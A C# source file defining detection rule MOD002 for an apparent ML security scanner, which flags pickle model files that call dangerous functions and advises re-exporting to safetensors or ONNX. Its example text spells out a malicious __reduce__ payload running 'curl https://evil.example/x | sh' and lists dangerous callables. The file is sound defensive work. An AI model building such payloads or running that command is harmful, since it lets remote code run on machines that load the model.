using MLSecOps.Core.Rules;

namespace MLSecOps.Gates.ModelScan.Rules;

/// <summary>MOD002: pickle calls a dangerous callable.</summary>
internal static class DangerousPickleGlobal
{
    public static RuleDescriptor Descriptor { get; } = RuleDescriptorFactory.Create(
        "MOD002",
        "Pickle calls a dangerous callable",
        "The pickle references a callable that runs code, touches files, the network, processes or the import machinery (for example `os.system`, `builtins.eval`, `subprocess.Popen`, `pickle.loads`). Loading it with `pickle`, `torch.load(weights_only=False)` or `joblib.load` runs that callable.",
        "Do not load the file. Re-export the model from a trusted environment in a format that cannot run code (safetensors, ONNX), or save only the state dict. This rule has no allowlist escape: a dangerous callable is never allowed.",
        Severity.Critical,
        [Threat.MalwareDistribution, Threat.UnintendedSystemInteraction],
        ["OWASP-ML06", "OWASP-LLM03", "AML.T0010", "AML.T0011", "CWE-502"],
        Precision.VeryHigh,
        example: "A `model.pkl` written from a class whose `__reduce__` returns `(os.system, (\"curl https://evil.example/x | sh\",))`: the pickle holds `GLOBAL 'posix system'` followed by `REDUCE`.");

    /// <summary>Creates a finding at <paramref name="logicalPath"/> of <paramref name="path"/>.</summary>
    public static Finding Create(string path, string? logicalPath, string message, string contentKey, string? evidence = null) =>
        Finding.Create(Descriptor, Location.File(path, logicalPath), message, contentKey, evidence);
}
